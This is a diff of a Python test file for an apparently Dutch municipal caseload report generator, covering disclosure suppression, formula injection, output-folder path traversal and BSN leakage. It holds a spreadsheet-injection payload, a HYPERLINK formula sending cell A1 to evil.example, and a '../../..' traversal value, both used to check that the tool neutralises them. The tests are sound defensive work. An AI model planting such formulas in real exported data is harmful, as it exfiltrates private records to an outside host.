@@ -77,6 +77,42 @@ def test_the_sample_report_passes_the_disclosure_audit(run):
 
 
 @pytest.mark.slow
+def test_kernpunten_reconcile_with_the_published_tables_and_pass_the_audit(run):
+    """Issue 12: "A niet getoond, B 51, C 48" beside a stock of 108 gave A back as 108 - 51 - 48,
+    and printed B and C that the table (after its complementary suppression) hides."""
+    from caseload.privacy.audit import audit_report
+
+    code, output, out = run
+    assert code == 0, output
+    doc = json.loads((out / "relations.json").read_text(encoding="utf-8"))
+    kern = doc["tables"]["kernpunten"]
+    assert kern["rows"] >= 10 and kern["file"] is None
+    rels = [r for r in doc["relations"] if r["terms"][0][0] == "kernpunten"]
+    assert len(rels) == kern["rows"]
+    tables = {n: list(csv.reader(io.StringIO((out / spec["file"]).read_text(encoding="utf-8-sig")),
+                                 delimiter=";"))[1:]
+              for n, spec in doc["tables"].items() if spec["file"]}
+    for rel in rels:  # every printed count is the (sum of the) published cell(s), none of them hidden
+        value = kern["values"][rel["terms"][0][1]][0]
+        cells = [tables[t][r][c] for t, r, c, _ in rel["terms"][1:]]
+        assert cells
+        if all(c != "" for c in cells):  # shown cells (a sum: over the municipalities)
+            assert sum(float(c.replace(".", "")) for c in cells) == value, rel["note"]
+        else:  # hidden cells only as their sum (a row's total minus its shown cells), never one
+            assert len(cells) >= 2 and all(c == "" for c in cells), rel["note"]
+    assert audit_report(out).disclosed == []
+    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
+    seg = [f for f in manifest["findings"] if f["topic"] == "segments"]
+    assert seg and all("cliënten in de indeling naar groep" in f["sentence"] for f in seg)
+    rows = {r[0]: r for r in tables["segment_per_gemeente"]}
+    for f in seg:  # a number printed for a group is the one the table shows
+        row = rows["Totaal" if f["group"] == "Alle gemeenten samen" else f["group"]]
+        for col, cell in zip(("A", "B", "C"), row[1:4], strict=True):
+            printed = re.search(rf"\b{col} (\d[\d.]*)", f["sentence"])
+            assert (printed.group(1) if printed else "") == cell, (f["sentence"], row)
+
+
+@pytest.mark.slow
 def test_no_table_is_empty_and_html_has_every_item(run):
     _, _, out = run
     html = (out / "index.html").read_text(encoding="utf-8")
@@ -315,22 +351,6 @@ def test_refresh_scores_with_the_committed_model(tmp_path):
 _EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
 
 
-def _sample_copy(tmp_path: Path) -> Path:
-    """The sample extract and config copied to tmp_path (out_dir inside tmp_path)."""
-    import shutil
-
-    src = SAMPLE.parent
-    dst = tmp_path / "sample"
-    dst.mkdir()
-    for p in src.iterdir():
-        if p.is_file():
-            shutil.copy2(p, dst / p.name)
-    toml = (dst / "caseload.toml").read_text(encoding="utf-8")
-    (dst / "caseload.toml").write_text(toml.replace('out_dir = "../../reports"', 'out_dir = "../reports"'),
-                                       encoding="utf-8")
-    return dst / "caseload.toml"
-
-
 def _live_cells(folder: Path) -> list[str]:
     """Every CSV cell and XLSX cell in ``folder`` that a spreadsheet would run as a formula."""
     from openpyxl import load_workbook
@@ -353,9 +373,9 @@ def _live_cells(folder: Path) -> list[str]:
 
 
 @pytest.mark.slow
-def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path):
+def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path, sample_config):
     """Issue 11: a dropout reason and a report title starting with '=' never become formulas."""
-    config = _sample_copy(tmp_path)
+    config = sample_config
     acts = config.parent / "activiteiten.csv"
     df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
     hit = df["dropout_reason"] == "Gebrek aan motivatie"
@@ -385,9 +405,9 @@ def test_formula_in_extract_and_title_is_text_in_every_output(tmp_path):
 # ------------------------------------------------------------------ issue 11: the report folder
 
 
-def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, monkeypatch):
+def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, sample_config, monkeypatch):
     """`out_dir = "../../.."` made a parent folder the report, with the raw extract inside."""
-    config = _sample_copy(tmp_path)
+    config = sample_config
     deep = tmp_path / "a" / "b" / "c"
     deep.mkdir(parents=True)
     toml = config.read_text(encoding="utf-8").replace('out_dir = "../reports"', 'out_dir = "../../.."')
@@ -413,8 +433,8 @@ def test_out_dir_above_the_config_is_refused_before_any_step(tmp_path, monkeypat
     assert [p.name for p in mine.iterdir()] == ["begroting.xlsx"]
 
 
-def test_out_dir_holding_the_key_file_is_refused(tmp_path, monkeypatch):
-    config = _sample_copy(tmp_path)
+def test_out_dir_holding_the_key_file_is_refused(tmp_path, sample_config, monkeypatch):
+    config = sample_config
     keys = tmp_path / "sleutels"
     keys.mkdir()
     cfg = cl.load_config(config, privacy={"key_file": str(keys / "pseudonym.key")})
@@ -427,9 +447,9 @@ def test_out_dir_holding_the_key_file_is_refused(tmp_path, monkeypatch):
 
 @pytest.mark.slow
 @pytest.mark.parametrize("written", ["111 222 333", "111.222.333"])
-def test_a_grouped_bsn_in_the_extract_stops_the_report(tmp_path, written):
+def test_a_grouped_bsn_in_the_extract_stops_the_report(tmp_path, sample_config, written):
     """Issue 11: a BSN written in groups in a dropout reason reached the CSV, HTML and XLSX."""
-    config = _sample_copy(tmp_path)
+    config = sample_config
     acts = config.parent / "activiteiten.csv"
     df = pd.read_csv(acts, sep=";", dtype=str, keep_default_na=False, encoding="cp1252")
     df.loc[df["dropout_reason"] == "Gebrek aan motivatie", "dropout_reason"] = f"klant {written} gebeld"
